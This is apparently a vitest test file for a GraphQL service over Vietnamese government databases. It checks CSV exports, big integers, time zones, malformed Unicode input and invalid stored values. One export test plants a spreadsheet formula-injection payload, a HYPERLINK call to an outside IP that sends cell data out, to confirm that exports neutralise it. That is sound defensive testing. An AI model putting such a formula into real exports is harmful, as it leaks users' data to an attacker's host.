import { execFile } from 'node:child_process';
import { cp, mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { codes, leavesOf, nodesOf, normalText } from '../fixtures/answer-parts.ts';
import { changeRows, rowsOf } from '../fixtures/province-database.ts';
import { type RunningProvince, runProvince } from '../fixtures/running-province.ts';

vi.setConfig({ testTimeout: 180_000 });

let running: RunningProvince;
beforeAll(async () => {
  running = await runProvince({}, 0.02);
});
afterAll(() => running.stop());

const ask = (account: string, query: string, variables?: Record<string, unknown>) =>
  running.ask(account, query, variables);
const rows = <Row>(database: string, sql: string) =>
  rowsOf<Row>(running.configuration.dataDir, database, sql);
const change = (database: string, ...statements: readonly string[]) =>
  changeRows(running.configuration.dataDir, database, ...statements);

describe('E. exports', () => {
  it('E69 no cell of the exported matrix is a formula to a spreadsheet', async () => {
    const hostile = '=HYPERLINK("http://198.51.100.7/?"&A1,"x")';
    await running.command(
      ...[
        'account',
        'issue',
        'formula',
        '--agency',
        'H41.F',
        '--agency-name',
        hostile,
        '--purpose',
        '@SUM(A1)',
      ],
    );
    const csv = await running.command('matrix', '--format', 'csv', '--account', 'formula', 'public');
    expect(csv).toContain('HYPERLINK');
    const cells = csv.split('\n').flatMap((line) => line.match(/"(?:[^"]|"")*"|[^,]+/g) ?? []);
    expect(cells.length).toBeGreaterThan(100);
    for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('E. numbers', () => {
  it('E66 integers beyond 2^53 and long decimals come out digit by digit, and are found so', async () => {
    const enterprises = await rows<{ id: string }>(
      'business',
      'select ma_so_dn as id from tbl_doanh_nghiep order by 1 limit 6',
    );
    const capitals = [
      '9007199254740993',
      '9223372036854775807',
      '-9223372036854775808',
      '0',
      '9007199254740992',
      '-1',
    ];
    for (const [at, capital] of capitals.entries()) {
      await change(
        'business',
        `update tbl_doanh_nghiep set von_dieu_le = ${capital} where ma_so_dn = '${enterprises[at]?.id}'`,
      );
    }
    for (const [at, capital] of capitals.entries()) {
      const found = await ask(
        'tax',
        'query($c: BigInt) { enterprises(where: { charterCapital: { eq: $c } }, first: 1000) { nodes { enterpriseCode charterCapital } } }',
        { c: capital },
      );
      expect(found.errors).toEqual([]);
      const nodes = nodesOf<{ enterpriseCode: string; charterCapital: unknown }>(found, 'enterprises');
      expect(nodes, capital).toContainEqual({ enterpriseCode: enterprises[at]?.id, charterCapital: capital });
      expect(new Set(nodes.map((node) => node.charterCapital)), capital).toEqual(new Set([capital]));
    }
    const between = await ask(
      'tax',
      '{ enterprises(where: { charterCapital: { gt: "9007199254740992", lt: "9007199254740994" } }) { nodes { charterCapital } } }',
    );
    expect(leavesOf(between.data).map(({ value }) => value)).toEqual(['9007199254740993']);
    await change(
      'land',
      'update ThuaDat set dienTichDm2 = 9223372036854775807 where maThua = (select min(maThua) from ThuaDat)',
      'update ThuaDat set dienTichDm2 = 1 where maThua = (select max(maThua) from ThuaDat)',
    );
    const areas = await ask(
      'land-office',
      '{ most: landParcels(orderBy: [{ field: areaSquareMetres, direction: DESC }], first: 1) { nodes { areaSquareMetres } } least: landParcels(where: { areaSquareMetres: { eq: "0.01" } }) { nodes { areaSquareMetres } } }',
    );
    expect(leavesOf(areas.data).map(({ value }) => value)).toEqual(['92233720368547758.07', '0.01']);
    expect(areas.text).toContain('"92233720368547758.07"');
  });

  it.each([
    'NaN',
    'Infinity',
    '-Infinity',
    '1e400',
    '0x10',
    '1_000',
    '١٢٣',
    ' 1',
    '1 ',
    '--1',
    '',
    '9'.repeat(41),
  ])('E66 %j is no number: refused, no row', async (text) => {
    for (const field of ['charterCapital']) {
      const answer = await ask(
        'tax',
        `query($v: BigInt) { enterprises(where: { ${field}: { eq: $v } }) { totalCount nodes { name } } }`,
        { v: text },
      );
      expect(leavesOf(answer.data)).toEqual([]);
      expect(answer.errors.length).toBe(1);
      expect(answer.status).toBeLessThan(500);
    }
    const decimal = await ask(
      'land-office',
      'query($v: Decimal) { landParcels(where: { areaSquareMetres: { eq: $v } }) { totalCount } }',
      { v: text },
    );
    expect(leavesOf(decimal.data)).toEqual([]);
    expect(decimal.errors.length).toBe(1);
  });

  it('E66 a JSON number that a float cannot hold is refused, -0 is zero', async () => {
    const raw = await fetch(`${running.address}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${running.keys.get('tax')}` },
      body: '{"query":"query($v: BigInt) { enterprises(where: { charterCapital: { eq: $v } }) { totalCount } }","variables":{"v":9007199254740993}}',
    });
    expect(await raw.text()).not.toMatch(/"totalCount":\d/);
    const zero = await ask(
      'tax',
      '{ minus: enterprises(where: { charterCapital: { eq: "-0" } }) { totalCount } plain: enterprises(where: { charterCapital: { eq: "0" } }) { totalCount } }',
    );
    expect(zero.errors).toEqual([]);
    expect(zero.data?.minus).toEqual(zero.data?.plain);
  });

  it('E66 a literal is read digit by digit too', async () => {
    const answer = await ask(
      'tax',
      '{ enterprises(where: { charterCapital: { eq: 9007199254740993 } }) { nodes { charterCapital } } }',
    );
    expect(leavesOf(answer.data).map(({ value }) => value)).toEqual(['9007199254740993']);
  });
});

describe('E. time', () => {
  it('E67 three time zones of the host give the same answers to the byte', async () => {
    const dossiers = await rows<{ id: string }>(
      'dossiers',
      'select MaHoSo as id from HoSo order by 1 limit 8',
    );
    const instants = [
      '0001-01-01T00:00:00',
      '9999-12-31T23:59:59',
      '2026-03-08T02:30:00',
      '2026-11-01T01:30:00',
      '2026-07-01T00:00:00',
      '2026-06-30T23:59:59',
      '1945-08-19T00:00:00',
      '2026-03-08T03:30:00',
    ];
    for (const [at, instant] of instants.entries()) {
      await change(
        'dossiers',
        `update HoSo set NgayTiepNhan = '${instant}+07:00' where MaHoSo = '${dossiers[at]?.id}'`,
      );
    }
    // A column whose instants have no zone: they are Vietnamese time, whatever the host thinks.
    await change('dossiers', "update HoSo set NgayHenTra = replace(NgayHenTra, '+07:00', '')");
    await change(
      'population',
      "update CONG_DAN set NGAY_SINH = '0001-01-01' where SO_DINH_DANH = (select min(SO_DINH_DANH) from CONG_DAN)",
      "update CONG_DAN set NGAY_SINH = '9999-12-31' where SO_DINH_DANH = (select max(SO_DINH_DANH) from CONG_DAN)",
    );
    const ids = dossiers.map(({ id }) => `"${id}"`).join(', ');
    const queries: readonly (readonly [string, string])[] = [
      ['one-stop', `{ dossiersByIds(ids: [${ids}]) { dossierCode receivedAt dueAt } }`],
      [
        'one-stop',
        '{ dossiers(where: { receivedAt: { gte: "2026-06-30T17:00:00Z", lt: "2026-07-31T17:00:00Z" } }, orderBy: [{ field: receivedAt }], first: 50) { totalCount nodes { dossierCode receivedAt } } }',
      ],
      [
        'one-stop',
        '{ dossiers(where: { dueAt: { gte: "2026-06-30T17:00:00Z" } }, orderBy: [{ field: dueAt, direction: DESC }], first: 20) { totalCount nodes { dueAt } } }',
      ],
      [
        'one-stop',
        '{ dossiers(where: { receivedAt: { lte: "2026-07-01T00:00:00+07:00" } }) { totalCount } }',
      ],
      ['one-stop', '{ dossiers(where: { receivedAt: { gt: "2026-06-30" } }) { totalCount } }'],
      ['one-stop', '{ dossiers(where: { receivedAt: { gt: "2026-06-30T23:30:00" } }) { totalCount } }'],
      [
        'one-stop',
        '{ citizens(orderBy: [{ field: dateOfBirth }], first: 3) { nodes { dateOfBirth } } last: citizens(orderBy: [{ field: dateOfBirth, direction: DESC }], first: 3) { nodes { dateOfBirth } } }',
      ],
      [
        'one-stop',
        '{ citizens(where: { dateOfBirth: { gte: "1990-01-01", lt: "1990-07-01" } }) { totalCount } }',
      ],
      ['one-stop', '{ citizens(where: { dateOfBirth: { eq: "2000-02-30" } }) { totalCount } }'],
      [
        'bank',
        '{ viewer { permissions { coordinate validUntil } a: explain(coordinate: "Enterprise.charterCapital", at: "2026-12-31T23:30:00+07:00") { decision } b: explain(coordinate: "Enterprise.charterCapital", at: "2027-01-01T00:00:00+07:00") { decision reason } c: explain(coordinate: "Enterprise.charterCapital", at: "2026-12-31T23:30:00") { decision at } d: explain(coordinate: "Enterprise.charterCapital", at: "2027-01-01") { decision at } } }',
      ],
      [
        'expired',
        '{ viewer { explain(coordinate: "Citizen.fullName") { decision reason rules { validFrom validTo } } } }',
      ],
    ];
    const seen = new Map<string, { offset: number; texts: readonly string[] }>();
    for (const zone of ['UTC', 'Asia/Ho_Chi_Minh', 'America/New_York']) {
      const folder = await mkdtemp(join(tmpdir(), 'lienthong-zone-'));
      await cp(running.configuration.dataDir, folder, { recursive: true });
      const output = join(folder, 'answers.json');
      const child = join(import.meta.dirname, 'answer-in-zone-child.ts');
      await promisify(execFile)(
        process.execPath,
        ['--import', 'tsx', child, folder, JSON.stringify(queries), output],
        { env: { ...process.env, TZ: zone } },
      );
      seen.set(zone, JSON.parse(await readFile(output, 'utf8')));
      await rm(folder, { recursive: true });
    }
    const answers = [...seen.values()];
    expect(answers.map(({ offset }) => offset)).toEqual([0, -420, 300]);
    for (const [at, [, query]] of queries.entries()) {
      const texts = answers.map(({ texts: all }) => normalText({ text: all[at] ?? '' }));
      expect(texts[1], query).toBe(texts[0]);
      expect(texts[2], query).toBe(texts[0]);
    }
    const first = answers[0]?.texts ?? [];
    for (const instant of instants) expect(first[0]).toContain(`"${instant}+07:00"`);
    expect(first[0]).toMatch(/"dueAt":"[^"]*\+07:00"/);
    expect(first[9]).toContain('ARGUMENT_INVALID');
    expect(first[6]).toContain('"dateOfBirth":"0001-01-01"');
    expect(first[6]).toContain('"dateOfBirth":"9999-12-31"');
    expect(first[9]).toContain('"b":{"decision":"DENIED","reason":"EXPIRED"}');
    expect(first[9]).toContain('"a":{"decision":"PERMITTED"}');
  });
});

describe('E. texts that are none', () => {
  const name = 'query($t: String) { citizens(where: { fullName: { eq: $t } }) { totalCount } }';

  it.each([
    ['a NUL', 'a\u0000b'],
    ['only a NUL', '\u0000'],
    ['a lone high surrogate', 'a\ud800b'],
    ['a lone low surrogate', '\udc00'],
    ['a noncharacter', '\uffff\ufffe'],
    ['bidi and zero width', '\u202e\u200b\u2066'],
    ['an emoji of many parts', '👩‍👩‍👧‍👦'.repeat(5)],
    ['a long combining tail', `a${'\u0301'.repeat(150)}`],
    ['the largest code point', '\u{10ffff}'],
  ])('E68 %s in a filter, a key and a search is answered cleanly, with no row', async (_name, text) => {
    for (const [query, variables] of [
      [name, { t: text }],
      [
        'query($t: String) { citizens(where: { fullName: { contains: $t } }) { totalCount } }',
        { t: `zz${text}` },
      ],
      [
        'query($t: String) { citizens(where: { fullName: { startsWith: $t } }) { totalCount } }',
        { t: `zz${text}` },
      ],
      [
        'query($t: ID!) { citizen(personalId: $t) { fullName } citizensByIds(ids: [$t]) { fullName } }',
        { t: text },
      ],
      ['query($t: String) { citizens(after: $t) { nodes { fullName } } }', { t: text }],
      ['query($t: String) { catalogue { items(search: $t) { coordinate } } }', { t: `zz${text}` }],
    ] as const) {
      const answer = await ask('one-stop', query, variables);
      expect(answer.status, query).toBeLessThan(500);
      expect(
        leavesOf(answer.data).filter(({ value }) => value !== 0),
        query,
      ).toEqual([]);
      expect(answer.text).not.toMatch(/SQLITE|stack/);
    }
    expect((await ask('one-stop', '{ viewer { account } }')).status).toBe(200);
  });

  it('E68 a text of a megabyte is refused, one of the longest admitted length is answered', async () => {
    const big = await fetch(`${running.address}/graphql`, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        authorization: `Bearer ${running.keys.get('one-stop')}`,
      },
      body: JSON.stringify({ query: name, variables: { t: 'x'.repeat(1_000_000) } }),
    });
    expect([big.status, (await big.text()).length < 2_000]).toEqual([413, true]);
    const long = await ask('one-stop', name, { t: 'x'.repeat(50_000) });
    expect(codes(long)).toEqual(['TEXT_TOO_LONG']);
    expect((await ask('one-stop', name, { t: 'x'.repeat(200) })).data).toEqual({
      citizens: { totalCount: 0 },
    });
    const key = await ask('one-stop', 'query($t: ID!) { citizen(personalId: $t) { fullName } }', {
      t: '9'.repeat(50_000),
    });
    expect(key.status).toBeLessThan(500);
    expect(leavesOf(key.data)).toEqual([]);
  });

  it('E68 a stored value that does not fit its item is not released, and what it holds stands in no error', async () => {
    const [parcel] = await rows<{ id: string }>('land', 'select maThua as id from ThuaDat limit 1');
    const [person] = await rows<{ id: string }>(
      'population',
      'select SO_DINH_DANH as id from CONG_DAN order by SO_DINH_DANH desc limit 1',
    );
    const [enterprise] = await rows<{ id: string }>(
      'business',
      'select ma_so_dn as id from tbl_doanh_nghiep order by ma_so_dn desc limit 1',
    );
    await change(
      'land',
      `update ThuaDat set soHieuToBanDo = 'CANARY text in a number', dienTichDm2 = 'CANARY' where maThua = '${parcel?.id}'`,
    );
    await change(
      'population',
      `update CONG_DAN set NGAY_SINH = 'CANARY date', GIOI_TINH = 'CANARY gender' where SO_DINH_DANH = '${person?.id}'`,
    );
    await change(
      'business',
      `update tbl_doanh_nghiep set von_dieu_le = 1.5, ngay_dang_ky = x'00ff' where ma_so_dn = '${enterprise?.id}'`,
    );
    const answers = [
      await ask(
        'land-office',
        'query($id: ID!) { landParcel(parcelId: $id) { parcelId mapSheet areaSquareMetres } }',
        { id: parcel?.id },
      ),
      await ask(
        'one-stop',
        'query($id: ID!) { citizen(personalId: $id) { personalId dateOfBirth gender } }',
        { id: person?.id },
      ),
      await ask(
        'tax',
        'query($id: ID!) { enterprise(enterpriseCode: $id) { enterpriseCode charterCapital registeredOn } }',
        { id: enterprise?.id },
      ),
    ];
    for (const answer of answers) {
      expect(leavesOf(answer.data)).toHaveLength(1);
      expect(codes(answer)).toEqual(['CELL_INVALID', 'CELL_INVALID']);
      expect(answer.text).not.toContain('CANARY');
    }
    const sorted = await ask(
      'land-office',
      '{ landParcels(orderBy: [{ field: mapSheet }], first: 1000) { totalCount nodes { parcelId } } }',
    );
    expect(nodesOf(sorted, 'landParcels').length).toBe(
      (sorted.data?.landParcels as { totalCount: number }).totalCount,
    );
    const filtered = await ask(
      'land-office',
      '{ landParcels(where: { mapSheet: { gte: 0 } }) { totalCount } }',
    );
    expect(filtered.errors).toEqual([]);
  });
});
